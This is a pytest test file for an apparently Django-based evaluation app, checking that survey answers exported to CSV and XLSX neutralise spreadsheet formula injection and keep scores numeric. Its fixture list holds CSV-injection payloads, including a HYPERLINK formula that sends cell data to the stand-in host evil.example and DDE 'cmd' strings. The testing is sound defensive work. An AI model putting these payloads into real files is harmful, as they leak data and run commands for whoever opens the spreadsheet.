"""Survey answers exported to CSV or XLSX are text: a comment typed as a formula
is shown, never run; scores stay numbers; a pasted control character does
not break the XLSX file."""

import csv
import io

import pytest
from openpyxl import load_workbook

from preau.accounts.roles import Role
from preau.catalog.models import Offer
from preau.core.testing import TEST_PASSWORD, user_with_role
from preau.evaluation import services
from preau.evaluation.models import Invitation

from .test_surveys import held_session

pytestmark = pytest.mark.django_db

COMMENTS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_survey_answers_export_formulas_as_text(client, net):
    session, _people = held_session(net, attended=len(COMMENTS) + 1, missed=0)
    Offer.objects.filter(pk=session.offer_id).update(title="=1+1 Offre")
    for invitation, typed in zip(
        Invitation.objects.order_by("pk"), [*COMMENTS, "Très\x0butile"], strict=True
    ):
        services.survey_answer(
            invitation=invitation, data={"satisfaction": 4, "transfer": 3, "comment": typed}
        )
    director = user_with_role(Role.TERRITORIAL_DIRECTOR, territory=net.t1)
    client.login(email=director.email, password=TEST_PASSWORD)

    text = client.get("/evaluation/resultats/reponses.csv").content.decode("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(text, newline=""), delimiter=";")
    comment, offer = header.index("comment"), header.index("offer")
    assert [r[comment] for r in rows] == ["'" + c for c in COMMENTS] + ["Très\x0butile"]
    assert {r[offer] for r in rows} == {"'=1+1 Offre"}
    assert {r[header.index("satisfaction")] for r in rows} == {"4"}

    response = client.get("/evaluation/resultats/reponses.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    # XML reads a carriage return back as a line feed
    assert [r[comment].replace("\n", "\r") for r in values] == ["'" + c for c in COMMENTS] + [
        "Très utile"
    ]
    assert {r[header.index("satisfaction")] for r in values} == {4}  # a number, not text
